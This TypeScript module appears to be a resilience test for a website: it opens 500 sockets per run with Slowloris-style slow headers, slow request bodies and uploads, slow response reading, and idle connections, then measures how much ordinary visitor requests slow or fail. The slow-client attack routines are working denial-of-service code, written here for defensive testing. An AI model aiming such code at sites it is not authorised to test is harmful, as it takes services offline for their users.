import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { printOutcomes, traffic } from '../load/traffic.ts';
import { visitors } from '../load/visitors.ts';
import type { Verdict } from './raw.ts';

/** Sockets of each attack: what one machine opens easily. */
const count = 500;

/** Seconds of each attack: longer than a header may take. */
const seconds = 30;

/** Visitors beside it, 10 requests a second. */
const rate = 0.2;

type Attack = (socket: Socket, siteUrl: string) => void;

/** One byte a second, as Slowloris does. */
function dribble(socket: Socket, opening: string, byte: string): void {
  socket.write(opening);
  const timer = setInterval(() => (socket.writable ? socket.write(byte) : clearInterval(timer)), 1_000);
  socket.on('close', () => clearInterval(timer));
}

const attacks: Record<string, Attack> = {
  'headers at a byte a second': (socket) => dribble(socket, 'GET / HTTP/1.1\r\nHost: x\r\nX: ', 'a'),
  'bodies at a byte a second': (socket) =>
    dribble(
      socket,
      'POST /api/contactUs/add HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 9000\r\n\r\n"',
      'a',
    ),
  'files at a byte a second': (socket) =>
    dribble(
      socket,
      'POST /api/jobs/nothing/apply HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: 900000\r\n\r\n--b\r\n',
      'a',
    ),
  'answers read at a byte a second': (socket) => {
    // Many requests in one go, whose answers nobody fetches.
    socket.write('GET / HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(20));
    socket.pause();
    const timer = setInterval(() => socket.read(1), 1_000);
    socket.on('close', () => clearInterval(timer));
  },
  'connections that say nothing': () => {},
};

/** Measures visitors alone, then beside each attack. They must not fail; how much slower they are is printed. */
export async function slowClients(siteUrl: string): Promise<Verdict[]> {
  const kinds = await visitors(siteUrl, rate);
  const reading = kinds.filter(({ name }) => /page|API|picture/.test(name));
  const alone = median(await traffic(reading, 10));
  const verdicts: Verdict[] = [];
  for (const [name, attack] of Object.entries(attacks)) {
    const sockets = await open(siteUrl, attack);
    const outcomes = await traffic(reading, seconds);
    // Closing is looked for every five seconds.
    await pause(1_000);
    const closed = sockets.filter((socket) => socket.destroyed).length;
    for (const socket of sockets) socket.destroy();
    console.log(`\nvisitors beside ${count} × ${name}`);
    const errors = printOutcomes(outcomes);
    const ratio = (median(outcomes) / alone).toFixed(1);
    verdicts.push({
      name: `${count} × ${name}`,
      ok: errors === 0,
      detail: `visitors: ${errors} errors, median ${ratio} times that without; ${closed} closed by the site within ${seconds} s`,
    });
  }
  return verdicts;
}

/** The middle of all times, in milliseconds. */
function median(outcomes: { times: number[] }[]): number {
  const times = outcomes.flatMap((outcome) => outcome.times).sort((a, b) => a - b);
  return times[Math.floor(times.length / 2)] ?? 0;
}

async function open(siteUrl: string, attack: Attack): Promise<Socket[]> {
  const { hostname, port } = new URL(siteUrl);
  const sockets: Socket[] = [];
  for (let n = 0; n < count; n += 1) {
    const socket = connect(Number(port), hostname);
    socket.on('error', () => {}); // closed by the site, which is its right
    socket.once('connect', () => attack(socket, siteUrl));
    // Without a reader the end of a connection goes unnoticed.
    if (!attack.toString().includes('pause')) socket.resume();
    sockets.push(socket);
    if (n % 50 === 49) await pause(20);
  }
  return sockets;
}
